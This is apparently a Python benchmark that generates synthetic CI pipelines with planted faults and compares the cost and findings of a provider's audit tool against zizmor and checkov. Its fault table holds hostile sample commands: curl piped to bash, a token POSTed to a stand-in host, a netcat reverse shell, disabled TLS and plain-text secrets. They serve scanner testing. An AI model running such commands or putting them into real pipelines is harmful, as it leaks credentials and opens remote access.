"""
What an audit of pipelines as code costs, beside zizmor and checkov on the same commands and images; and which planted faults each reports.

The pipelines are written twice: for Buddy, and as workflows of GitHub Actions, which the peers read. An action is a job, a command is a
step. Each process is measured as a whole, in turns; the least counts: whatever else the machine does only makes it more.
The peers get no network: zizmor by ``--offline``, checkov by ``--skip-download`` and without its question for a newer version.
"""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
import tempfile
from collections import Counter
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from itertools import count
from pathlib import Path

from rich.console import Console
from rich.table import Table

ROUNDS = 5
FILES = 200
ACTIONS = 4
"""In each file."""
COMMANDS = 5
"""In each action."""
ROOT = Path(__file__).parents[2]
PEERS = ROOT / ".venv-peers" / "bin"
OURS = "this provider"

_ORDINARY = """
npm ci --prefix web/app-{n}
npm run build --prefix web/app-{n} -- --mode production
npm test --prefix web/app-{n} -- --reporters=default
pytest -q tests/part_{n} --junitxml=reports/part-{n}.xml
ruff check src/part_{n}
mkdir -p build/{n} && cp -r dist/. build/{n}/
tar -czf artifacts/release-{n}.tar.gz -C build/{n} .
sha256sum artifacts/release-{n}.tar.gz > artifacts/release-{n}.sha256
docker build --pull --tag registry.example.com/team/app-{n}:1.{n} services/app-{n}
docker push registry.example.com/team/app-{n}:1.{n}
git fetch --depth 1 origin "refs/tags/v1.{n}"
git diff --stat HEAD~1 -- services/app-{n} | tail -n 1
for part in api web worker; do make -C "services/$part" check SUITE={n}; done
if [ -f migrations/{n}.sql ]; then psql --set ON_ERROR_STOP=1 --file migrations/{n}.sql; fi
find reports -name '*-{n}.xml' -newer build/{n} -print | sort | head -n 20
grep -rn "TODO" src/part_{n} | awk -F: '{print $1}' | sort | uniq -c || true
test "$(cat VERSION)" = "1.{n}" || exit 1
curl -fsS --retry 3 --output report-{n}.json https://status.example.com/api/{n}
kubectl --namespace web rollout status deployment/app-{n} --timeout=120s
cd services/app-{n}\\ngo vet ./...\\ngo test ./...
export STAGE=staging-{n}\\nmake deploy STAGE="$STAGE"\\nmake smoke STAGE="$STAGE"
mvn --batch-mode --file services/app-{n}/pom.xml verify
""".strip().splitlines()

_FAULTY = {
    "download piped into a shell": (
        "curl -fsSL https://get.example.com/tool-{n}.sh | bash",
        "bash <(wget -qO- https://get.example.com/{n})",
    ),
    "secret in plain text": ("export AWS_SECRET_ACCESS_KEY={secret}", "git clone https://ci:{token}@git.example.com/team/app-{n}.git"),
    "secret printed": ('echo "$DEPLOY_TOKEN"', "printenv | sort"),
    "TLS checks off": ("curl -k -o app-{n}.zip https://files.example.com/{n}.zip", "git -c http.sslVerify=false fetch origin v1.{n}"),
    "privileged container": ("docker run --privileged --rm registry.example.com/team/app-{n}:1.{n} make check",),
    "text of a commit in a command": ("./notify.sh --channel web-{n} {message}",),
    "secret sent to some host": ('curl -fsS -d "secret=$DEPLOY_TOKEN" https://collect.example.net/{n}',),
    "shell opened to some host": ("nc 203.0.113.7 4{n} -e /bin/bash",),
    "package without a version": ("pip install requests", "npm install --global serverless"),
}
_MESSAGE = {OURS: "$BUDDY_EXECUTION_REVISION_MESSAGE", "github": "${{ github.event.head_commit.message }}"}

_IMAGES = (("node", "22.11.0"), ("python", "3.12.7"), ("golang", "1.23.2"), ("maven", "3.9.9"))
_LATEST, _UNTAGGED, _PASSWORD = _IMAGE_FAULTS = ("image with the tag latest", "image without a tag", "password of a registry in plain text")
ORDINARY = "nothing wrong: an ordinary command"

_RUN = """
import json, os, sys
process = os.fork()
if not process:
    os.execv(sys.argv[1], sys.argv[1:])
status, usage = os.wait4(process, 0)[1:]
print(json.dumps([usage.ru_utime + usage.ru_stime, usage.ru_maxrss, os.waitstatus_to_exitcode(status)]), file=sys.stderr)
"""
"""In a small process: a child's peak of memory begins with that of the process that starts it."""


@dataclass
class File:
    """One file in the making, and which of its lines are of what."""

    lines: list[str] = field(default_factory=list)
    planted: list[tuple[str, range]] = field(default_factory=list)

    def add(self, text: str, kind: str | None = None) -> None:
        begin = len(self.lines) + 1
        self.lines += text.splitlines()
        if kind:
            self.planted.append((kind, range(begin, len(self.lines) + 1)))


@dataclass(frozen=True)
class Action:
    """An action of a pipeline, or a job of a workflow."""

    image: str
    tag: str
    image_fault: str | None
    commands: list[tuple[str, str | None]]
    """Each with its fault."""


def actions(numbers: Iterator[int], dice: random.Random) -> Iterator[Action]:
    """All different, without end: each fourth image and each fifth command has a fault, one kind after the other."""
    kinds = list(_FAULTY)
    for number in numbers:
        image, tag = _IMAGES[number % len(_IMAGES)]
        image_fault = _IMAGE_FAULTS[number // 4 % len(_IMAGE_FAULTS)] if number % 4 == 0 else None
        commands: list[tuple[str, str | None]] = []
        for place in range(COMMANDS):
            n = number * COMMANDS + place
            fault = kinds[number % len(kinds)] if place == number % COMMANDS else None
            texts = _FAULTY[fault] if fault else _ORDINARY
            filled = texts[(number // len(kinds) if fault else n) % len(texts)].replace("{n}", str(n)).replace("\\n", "\n")
            filled = filled.replace("{secret}", "".join(dice.choices("abcdefghkmnpqrstuvwxyzABCDEFGHKLMNPQRSTUVWXYZ0123456789/+", k=40)))
            filled = filled.replace(
                "{token}", "ghp_" + "".join(dice.choices("abcdefghkmnpqrstuvwxyzABCDEFGHKLMNPQRSTUVWXYZ0123456789", k=36))
            )
            commands.append((filled, fault))
        yield Action(image, {_LATEST: "latest", _UNTAGGED: ""}.get(image_fault or "", tag), image_fault, commands)


def indented(text: str, by: int) -> str:
    return "\n".join(" " * by + line for line in text.splitlines())


def pipeline(name: str, given: Iterable[Action]) -> File:
    """For Buddy."""
    file = File()
    file.add(f'- pipeline: "{name}"\n  on: "EVENT"\n  refs:\n  - "refs/heads/main"\n  actions:')
    for number, action in enumerate(given):
        image = [f'  - action: "Step {number}"', f'    docker_image_name: "library/{action.image}"']
        image += [f'    docker_image_tag: "{action.tag}"'] if action.tag else []
        image += ['    login: "ci"\n    password: "correct-h0rse-battery"'] if action.image_fault == _PASSWORD else []
        file.add("\n".join(image), action.image_fault)
        file.add('    type: "BUILD"\n    shell: "BASH"\n    timeout: 600\n    execute_commands:')
        for command, fault in action.commands:
            file.add("    - |\n" + indented(command.replace("{message}", _MESSAGE[OURS]), 6), fault or ORDINARY)
    return file


def workflow(name: str, given: Iterable[Action]) -> File:
    """The same for GitHub Actions."""
    file = File()
    file.add(f'name: "{name}"\non:\n  push:\n    branches: [main]\npermissions: {{}}\njobs:')
    for number, action in enumerate(given):
        image = [f"  step_{number}:", "    container:", f'      image: "{action.image}{":" + action.tag if action.tag else ""}"']
        if action.image_fault == _PASSWORD:
            image += ['      credentials:\n        username: "ci"\n        password: "correct-h0rse-battery"']
        file.add("\n".join(image), action.image_fault)
        file.add("    runs-on: ubuntu-24.04\n    timeout-minutes: 10\n    steps:")
        for command, fault in action.commands:
            file.add("    - run: |\n" + indented(command.replace("{message}", _MESSAGE["github"]), 8), fault or ORDINARY)
    return file


def write(folder: Path, files: int, actions_each: int) -> dict[str, dict[str, File]]:
    """Files of both kinds, by the name that reports have for them."""
    made: dict[str, dict[str, File]] = {"buddy": {}, "github": {}}
    source = actions(count(), random.Random(1))
    for number in range(files):
        given = [next(source) for _ in range(actions_each)]
        made["buddy"][f"pipeline{number}.yml"] = pipeline(f"Pipeline {number}", given)
        made["github"][f"pipeline{number}.yml"] = workflow(f"Pipeline {number}", given)
    for kind, below in (("buddy", "buddy"), ("github", "github/.github/workflows")):
        (folder / below).mkdir(parents=True)
        for name, file in made[kind].items():
            Path(folder, below, name).write_text("\n".join(file.lines) + "\n")
    return made


_CHECKOV_FOLDER = "checkov-reports"
_CHECKOV = [
    *(str(PEERS / "checkov"), "--skip-download", "--quiet", "--compact", "--directory", "github"),
    *("--output", "sarif", "--output-file-path", _CHECKOV_FOLDER, "--framework", "github_actions"),
]
AUDITS = {
    OURS: [sys.executable, "-m", "airflow_provider.audit", "buddy", "--format", "sarif"],
    "zizmor": [str(PEERS / "zizmor"), "--offline", "--no-config", "--no-progress", "--format", "sarif", "github"],
    "checkov": _CHECKOV,
    "checkov, secrets too": [*_CHECKOV, "secrets", "--enable-secret-scan-all-files"],  # by default not in .github
}
VERSIONS = {
    OURS: [sys.executable, "-m", "airflow_provider.audit", "--version"],
    "zizmor": [str(PEERS / "zizmor"), "--version"],
    "checkov": [str(PEERS / "checkov"), "--version"],
}
ENVIRONMENT = {"PATH": os.defpath, "LANG": "C.UTF-8", "BC_SKIP_MAPPING": "TRUE", "CKV_SKIP_PACKAGE_UPDATE_CHECK": "TRUE"}
"""Nothing of the caller's, neither tokens nor settings."""


@dataclass(frozen=True)
class Cost:
    """Of one process, with those that it has started."""

    cpu: float
    memory: int
    """Bytes, of the largest of them."""
    output: str


def run(command: list[str], folder: Path) -> Cost:
    launcher = [sys.executable, "-I", "-S", "-c", _RUN]
    environment = {**ENVIRONMENT, "HOME": str(folder)}
    done = subprocess.run([*launcher, *command], cwd=folder, env=environment, capture_output=True, text=True, check=True)
    cpu, memory, code = json.loads(done.stderr.splitlines()[-1])
    if code not in (0, 1) and code <= 10:  # those that tell of findings
        raise RuntimeError(f"{command} exits with {code}: {done.stderr}")
    output = done.stdout
    if _CHECKOV_FOLDER in command:
        report = folder / _CHECKOV_FOLDER / "results_sarif.sarif"
        output = report.read_text()
        report.unlink()
    return Cost(cpu, memory * 1024, output)


def measure(commands: dict[str, list[str]], folder: Path) -> dict[str, Cost]:
    """The least of each, in turns."""
    costs: dict[str, list[Cost]] = {name: [] for name in commands}
    for _ in range(ROUNDS):
        for name, command in commands.items():
            costs[name].append(run(command, folder))
    return {name: Cost(min(cost.cpu for cost in each), min(cost.memory for cost in each), each[-1].output) for name, each in costs.items()}


def places(report: str) -> list[tuple[str, int]]:
    """File and line of each finding. All three write SARIF."""
    found = []
    for result in (result for part in json.loads(report)["runs"] for result in part["results"]):
        place = result["locations"][0]["physicalLocation"]
        found.append((Path(place["artifactLocation"]["uri"]).name, place["region"]["startLine"]))
    return found


def reported(written: dict[str, File], found: list[tuple[str, int]]) -> Counter[str]:
    """How many of each kind have a finding that begins on one of their lines, whatever rule it is of."""
    known = set(found)
    return Counter(kind for name, file in written.items() for kind, lines in file.planted if any((name, line) in known for line in lines))


def main() -> None:
    """Measure and print."""
    if not PEERS.is_dir():
        raise FileNotFoundError(f"{PEERS} does not exist: make bench sets it up.")
    with tempfile.TemporaryDirectory() as small, tempfile.TemporaryDirectory() as large:
        write(Path(small), 1, 1)
        written = write(Path(large), FILES, ACTIONS)
        measured = {
            "--version": measure(VERSIONS, Path(large)),
            f"a file of {COMMANDS} commands": measure(AUDITS, Path(small)),
            f"{FILES} files of {ACTIONS * COMMANDS}": measure(AUDITS, Path(large)),
        }
    table = Table("audit", title=f"CPU seconds of an audit (least of {ROUNDS})")
    for what in measured:
        table.add_column(f"{what}, s")
        table.add_column("ours to it")
    table.add_column("MiB of memory")
    table.add_column("findings")
    all_of = list(measured.values())[-1]
    found = {name: places(cost.output) for name, cost in all_of.items()}
    for name, last in all_of.items():
        cells = []
        for costs in measured.values():
            cost = costs.get(name)
            cells += [f"{cost.cpu:.3f}", f"{costs[OURS].cpu / cost.cpu:.2f}"] if cost else ["", ""]
        table.add_row(name, *cells, f"{last.memory / 2**20:.0f}", str(len(found[name])))
    Console(width=160).print(table)

    planted = Counter(kind for file in written["buddy"].values() for kind, _ in file.planted)
    seen = {name: reported(written["buddy" if name == OURS else "github"], found[name]) for name in AUDITS}
    table = Table("planted fault", "number", *AUDITS, title="Of them with a finding on their lines")
    for kind in (*_FAULTY, *_IMAGE_FAULTS, ORDINARY):
        table.add_row(kind, str(planted[kind]), *(str(seen[name][kind]) for name in AUDITS))
    Console(width=160).print(table)


if __name__ == "__main__":
    main()
